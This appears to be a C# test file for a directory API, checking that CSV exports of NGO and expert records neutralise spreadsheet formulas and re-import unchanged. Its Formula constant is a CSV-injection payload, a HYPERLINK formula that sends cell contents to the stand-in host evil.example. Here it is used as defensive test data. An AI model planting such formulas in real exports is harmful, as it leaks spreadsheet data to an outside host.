using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Directory.Api.Tests.Infrastructure;
using Directory.Domain;

namespace Directory.Api.Tests;

/// <summary>
/// A value a spreadsheet would run as a formula is served neutralised in every CSV export (OWASP: a cell
/// starting with =, +, -, @, tab or CR gets a leading apostrophe), and the export imports back unchanged.
/// </summary>
public sealed class CsvInjectionTests(CsvInjectionTests.Fixture fixture) : IClassFixture<CsvInjectionTests.Fixture>
{
    public sealed class Fixture : DirectoryApiFactory, IAsyncLifetime
    {
        public HttpClient Editor { get; private set; } = null!;

        public async ValueTask InitializeAsync() => Editor = await CreateClientAsync(Role.Editor);
    }

    private const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_formula_is_exported_as_text_and_imports_back_unchanged()
    {
        var ngo = WriteApiTests.ValidNgo("formula", "published") with { Name = Formula, ShortName = "+37167000000", DescriptionLv = "@SUM(1+1) un -2" };
        using var imported = await fixture.Editor.PostAsync("/api/v1/imports", new StringContent(JsonSerializer.Serialize(new[] { ngo }, ApiClient.Json), Encoding.UTF8, "application/json"), Cancel);
        Assert.Equal(HttpStatusCode.OK, imported.StatusCode);
        var before = await fixture.Editor.GetStringAsync("/api/v1/ngos/formula", Cancel);

        var csv = await fixture.Editor.GetStringAsync("/api/v1/ngos/export?format=csv", Cancel);
        var row = csv.Split("\r\n").Single(l => l.StartsWith("formula,", StringComparison.Ordinal));
        Assert.DoesNotContain(",=", row, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"=", row, StringComparison.Ordinal);
        Assert.Contains("'=HYPERLINK", row, StringComparison.Ordinal);
        Assert.Contains("'+37167000000", row, StringComparison.Ordinal);
        Assert.Contains("'@SUM", row, StringComparison.Ordinal);

        using var content = new ByteArrayContent(Encoding.UTF8.GetBytes(csv));
        content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        using var reimport = await fixture.Editor.PostAsync("/api/v1/imports", content, Cancel);
        var report = await reimport.Content.ReadFromJsonAsync<JsonElement>(Cancel);
        Assert.Equal(0, report.GetProperty("updated").GetInt32() + report.GetProperty("created").GetInt32() + report.GetProperty("rejected").GetInt32());
        Assert.Equal(before, await fixture.Editor.GetStringAsync("/api/v1/ngos/formula", Cancel));
    }

    [Fact]
    public async Task The_expert_export_neutralises_formulas_too()
    {
        using var created = await fixture.Editor.PostAsJsonAsync("/api/v1/experts", WriteApiTests.ValidExpert("Formulas Eksperte", consent: true), Cancel);
        var expert = await created.Content.ReadFromJsonAsync<JsonElement>(Cancel);
        using var patch = new HttpRequestMessage(HttpMethod.Patch, $"/api/v1/experts/{expert.GetProperty("id")}")
        {
            Content = new StringContent("{\"affiliation\":\"=1+1\"}", Encoding.UTF8, "application/merge-patch+json"),
        };
        patch.Headers.IfMatch.Add(created.Headers.ETag!);
        (await fixture.Editor.SendAsync(patch, Cancel)).EnsureSuccessStatusCode();

        var csv = await fixture.Editor.GetStringAsync("/api/v1/experts/export?format=csv", Cancel);
        Assert.Contains("\"'=1+1\"", csv.Split("\r\n").Single(l => l.Contains("Formulas", StringComparison.Ordinal)), StringComparison.Ordinal);
    }
}
